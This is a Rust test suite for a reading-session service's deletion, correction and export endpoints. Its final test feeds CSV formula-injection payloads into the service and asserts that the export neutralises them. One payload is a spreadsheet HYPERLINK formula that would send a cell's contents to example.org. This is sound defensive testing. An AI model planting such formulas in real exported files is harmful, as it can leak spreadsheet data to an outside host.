//! Readers delete and correct sessions. A filter that the service does not know
//! never widens what is deleted or exported.

use super::*;

use reqwest::Method;
use rstest::rstest;
use serde_json::json;
use tests::reader::id;

/// A reader with three finished sessions of ten minutes each: two of one book, one of
/// another.
async fn three_sessions(app: &App) -> (Reader, [Uuid; 3], [Uuid; 2]) {
    let books = [Uuid::new_v4(), Uuid::new_v4()];
    let reader = app.reader();
    let begins = [minutes_ago(100), minutes_ago(70), minutes_ago(40)];
    let ids = begins.map(id_of);
    let sessions: Vec<Value> = (0..3)
        .map(|index| {
            let begin = begins[index];
            let observations: Vec<Value> = (1..=10)
                .map(|minute| {
                    json!({ "current_position": minute, "occurred_at": begin + minutes(minute) })
                })
                .collect();
            json!({
                "session_id": ids[index], "book_id": books[index % 2], "started_at": begin,
                "ended_at": begin + minutes(10), "observations": observations,
            })
        })
        .collect();
    let _ = reader.sync(json!({ "sessions": sessions })).await.ok();
    app.settled().await;
    (reader, ids, books)
}

async fn shown(reader: &Reader) -> Vec<Uuid> {
    let history = reader.history("").await.ok();
    let sessions = history["sessions"].as_array().unwrap();
    assert_eq!(history["total"], sessions.len());
    sessions.iter().map(id).collect()
}

async fn read_seconds(reader: &Reader) -> i64 {
    let days = get(reader, "/stats/daily").await;
    total(&days, "days", "active_seconds")
}

#[tokio::test]
async fn filter_of_a_book_erases_only_the_sessions_of_that_book() {
    let app = App::start().await;
    let (reader, ids, books) = three_sessions(&app).await;
    let (other, ..) = three_sessions(&app).await;
    let path = format!("?confirm={}&book_id={}", reader.id, books[0]);
    let deleted = reader.delete(&path).await;
    assert!(deleted.status.is_success(), "{}", deleted.body);
    app.settled().await;
    assert_eq!(shown(&reader).await, [ids[1]]);
    assert_eq!(read_seconds(&reader).await, 600);
    for erased in [ids[0], ids[2]] {
        let _ = reader.session(erased).await.problem(404);
        let late = reader.update(erased, 50.0).await;
        let _ = late.problem(404);
    }
    let export = get(&reader, "/export").await.to_string();
    assert!(!export.contains(&books[0].to_string()), "{export}");
    // A repeat, a book that the reader does not have, and other readers.
    let _ = reader.delete(&path).await.ok();
    let unknown = format!("?confirm={}&book_id={}", reader.id, Uuid::new_v4());
    let _ = reader.delete(&unknown).await.ok();
    app.settled().await;
    assert_eq!(shown(&reader).await, [ids[1]]);
    assert_eq!(shown(&other).await.len(), 3);
    invariants::check(&app).await;
}

#[rstest]
#[case::session("session_id=SESSION")]
#[case::dry_run("dry_run=true")]
#[case::misspelled("bookid=BOOK")]
#[case::plural("book_ids=BOOK")]
#[case::other_case("Book_Id=BOOK")]
#[case::with_a_known_filter("book_id=BOOK&session_id=SESSION")]
#[case::twice("book_id=BOOK&book_id=BOOK")]
#[case::no_value("book_id=")]
#[case::no_book("book_id=x")]
#[case::before("before=2026-01-01")]
#[case::flag("all")]
#[tokio::test]
async fn unknown_filter_of_an_erasure_is_refused_and_erases_nothing(#[case] filter: &str) {
    let app = App::start().await;
    let (reader, ids, books) = three_sessions(&app).await;
    let events = invariants::read_log(&app.pool).await.len();
    let filter = filter.replace("SESSION", &ids[0].to_string());
    let filter = filter.replace("BOOK", &books[0].to_string());
    for path in [
        format!("?confirm={}&{filter}", reader.id),
        format!("?{filter}&confirm={}", reader.id),
    ] {
        let refused = reader.delete(&path).await;
        let value_is_wrong = filter.starts_with("book_id=") && refused.status == 422;
        assert!(
            refused.status == 400 || value_is_wrong,
            "{path}: {} {}",
            refused.status,
            refused.body
        );
    }
    let one = reader.delete(&format!("/{}?{filter}", ids[0])).await;
    let _ = one.problem(400);
    app.settled().await;
    assert_eq!(shown(&reader).await.len(), 3);
    assert_eq!(invariants::read_log(&app.pool).await.len(), events);
}

#[tokio::test]
async fn unknown_filter_of_an_export_is_refused() {
    let app = App::start().await;
    let (reader, ..) = three_sessions(&app).await;
    for query in ["?book=x", "?format=csv&days=3", "?from=2026-01-01"] {
        let refused = reader
            .call(Method::GET, &format!("/export{query}"), None)
            .await;
        let _ = refused.problem(400);
    }
    assert!(
        get(&reader, "/export?format=json").await["sessions"].is_array(),
        "the known filter"
    );
}

#[tokio::test]
async fn deleted_session_leaves_history_statistics_and_log() {
    let app = App::start().await;
    let (reader, ids, books) = three_sessions(&app).await;
    let deleted = reader.delete(&format!("/{}", ids[1])).await;
    assert_eq!(deleted.status, 204, "{}", deleted.body);
    // It cannot be read from then on.
    let _ = reader.session(ids[1]).await.problem(404);
    app.settled().await;
    assert_eq!(shown(&reader).await, [ids[2], ids[0]]);
    assert_eq!(read_seconds(&reader).await, 1_200);
    let days = get(&reader, "/stats/daily").await;
    assert_eq!(total(&days, "days", "progress"), 20);
    let export = get(&reader, "/export").await.to_string();
    assert!(!export.contains(&books[1].to_string()), "{export}");

    // Late observations do not bring it back, and other readers cannot delete.
    let again = reader.delete(&format!("/{}", ids[1])).await;
    let _ = again.problem(404);
    let begin = minutes_ago(70);
    let synced = json!({ "sessions": [{
        "session_id": ids[1], "book_id": books[1], "started_at": begin,
        "observations": [{ "current_position": 9, "occurred_at": begin + minutes(9) }],
    }] });
    let _ = reader.sync(synced).await;
    let start = json!({
        "session_id": ids[1], "book_id": books[1], "occurred_at": begin,
    });
    let restarted = reader.start_with(start).await;
    assert!(restarted.status.is_client_error(), "{}", restarted.body);
    let stranger = app.reader().delete(&format!("/{}", ids[0])).await;
    let _ = stranger.problem(404);
    let _ = reader.delete("/not-a-uuid").await.problem(422);
    app.settled().await;
    assert_eq!(shown(&reader).await, [ids[2], ids[0]]);
    assert_eq!(read_seconds(&reader).await, 1_200);
    invariants::check(&app).await;
}

#[tokio::test]
async fn deleted_active_session_is_not_active() {
    let app = App::start().await;
    let reader = app.reader();
    let session = id(&reader.start(Uuid::new_v4()).await.ok());
    let _ = reader.update(session, 3.0).await.ok();
    let deleted = reader.delete(&format!("/{session}")).await;
    assert_eq!(deleted.status, 204, "{}", deleted.body);
    app.settled().await;
    assert_eq!(reader.active().await.ok(), Value::Null);
    assert_eq!(shown(&reader).await, [] as [Uuid; 0]);
    assert_eq!(get(&reader, "/stats/daily").await["days"], json!([]));
    let next = id(&reader.start(Uuid::new_v4()).await.ok());
    assert_eq!(id(&reader.active().await.ok()), next);
    invariants::check(&app).await;
}

/// An alarm clock that was left running, and a book that was left open.
#[tokio::test]
async fn corrected_session_has_the_new_values_everywhere() {
    let app = App::start().await;
    let (reader, ids, _) = three_sessions(&app).await;
    let begin: Time = reader.session(ids[0]).await.ok()["started_at"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    let end = begin + minutes(4);
    let corrected = reader.correct(ids[0], json!({ "ended_at": end })).await;
    assert_eq!(corrected.status, 200, "{}", corrected.body);
    assert_fields(
        &corrected.ok(),
        &json!({
            "ended_at": end, "active_seconds": 240, "duration_minutes": 4, "end_position": 4,
            "last_activity_at": end, "is_active": false,
        }),
    );
    app.settled().await;
    assert_eq!(read_seconds(&reader).await, 240 + 600 + 600);

    let corrected = reader
        .correct(ids[1], json!({ "end_position": 77.5 }))
        .await;
    assert_fields(
        &corrected.ok(),
        &json!({ "end_position": 77.5, "progress_delta": 77.5, "active_seconds": 600 }),
    );
    let corrected = reader
        .correct(ids[2], json!({ "active_seconds": 90 }))
        .await;
    assert_fields(
        &corrected.ok(),
        &json!({ "active_seconds": 90, "duration_minutes": 10, "end_position": 10 }),
    );
    app.settled().await;
    assert_eq!(read_seconds(&reader).await, 240 + 600 + 90);
    let days = get(&reader, "/stats/daily").await;
    let progress: f64 = days["days"]
        .as_array()
        .unwrap()
        .iter()
        .map(|day| day["progress"].as_f64().unwrap())
        .sum();
    assert!((progress - (4.0 + 77.5 + 10.0)).abs() < 1e-6, "{days}");
    for session in ids {
        let by_id = reader.session(session).await.ok();
        let history = reader.history("").await.ok();
        let mut all = history["sessions"].as_array().unwrap().iter();
        assert_eq!(all.find(|one| id(one) == session), Some(&by_id));
    }
    invariants::check(&app).await;
}

/// The clock of a device may be a few seconds ahead.
#[tokio::test]
async fn correction_up_to_now_by_a_clock_slightly_ahead_is_accepted() {
    let app = App::start().await;
    let (reader, ids, _) = three_sessions(&app).await;
    let now = clock::now() + TimeDelta::seconds(5);
    let corrected = reader.correct(ids[0], json!({ "ended_at": now, "sent_at": now }));
    let ended_at: Time = corrected.await.ok()["ended_at"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(ended_at <= clock::now());
    invariants::check(&app).await;
}

#[tokio::test]
async fn impossible_correction_is_refused_and_changes_nothing() {
    let app = App::start().await;
    let (reader, ids, _) = three_sessions(&app).await;
    let live = id(&reader.start(Uuid::new_v4()).await.ok());
    let events = invariants::read_log(&app.pool).await.len();
    for body in [
        json!({}),
        json!({ "ended_at": minutes_ago(101) }),
        json!({ "ended_at": clock::now() + TimeDelta::hours(30) }),
        json!({ "ended_at": "yesterday" }),
        json!({ "end_position": 100.1 }),
        json!({ "end_position": -1 }),
        json!({ "active_seconds": -1 }),
        json!({ "active_seconds": 10_000_000 }),
        json!({ "active_seconds": "many" }),
    ] {
        let refused = reader.correct(ids[0], body.clone()).await;
        assert_eq!(refused.status, 422, "{body}: {}", refused.body);
    }
    let active = reader.correct(live, json!({ "end_position": 5 })).await;
    let _ = active.problem(400);
    let stranger = app.reader();
    let foreign = stranger.correct(ids[0], json!({ "end_position": 5 })).await;
    let _ = foreign.problem(404);
    let unknown = reader.correct(Uuid::now_v7(), json!({ "end_position": 5 }));
    let _ = unknown.await.problem(404);
    assert_eq!(invariants::read_log(&app.pool).await.len(), events);
}

#[tokio::test]
async fn cells_of_a_csv_export_are_inert_in_a_spreadsheet() {
    let app = App::start().await;
    let reader = app.reader();
    let texts = [
        "=HYPERLINK(\"http://example.org?\"&A1,\"a book\")",
        "@SUM(1)",
        "+1+1",
        "-1+1",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ];
    for text in texts {
        let start = json!({
            "book_id": Uuid::new_v4(), "locator": text, "device_id": text,
            "book": { "title": text, "author": text },
        });
        let session = id(&reader.start_with(start).await.ok());
        let update = json!({ "current_position": 1, "locator": text });
        let _ = reader.update_with(session, update).await.ok();
    }
    let export = app.client.get(format!("{}/export?format=csv", app.url));
    let export = export.bearer_auth(&reader.token).send().await.unwrap();
    let csv = export.text().await.unwrap();
    let mut cells = 0;
    for cell in cells_of(&csv) {
        let number = cell.parse::<f64>().is_ok();
        let first = cell.chars().next();
        assert!(
            number || !first.is_some_and(|first| "=@+-\t\r＝＋－＠".contains(first)),
            "{cell:?}"
        );
        cells += usize::from(texts.iter().any(|text| cell.contains(text.trim_start())));
    }
    assert!(cells >= texts.len() * 2, "{cells} cells in {csv}");
    // The JSON export contains the texts unchanged.
    let export = get(&reader, "/export").await.to_string();
    assert!(export.contains(&json!(texts[0]).to_string()));
}

/// The cells of a CSV document (RFC 4180).
fn cells_of(csv: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut characters = csv.chars().peekable();
    while let Some(character) = characters.next() {
        let cell = cells.last_mut().unwrap();
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(String::new()),
            '\r' if !quoted => {}
            other => cell.push(other),
        }
    }
    cells
}
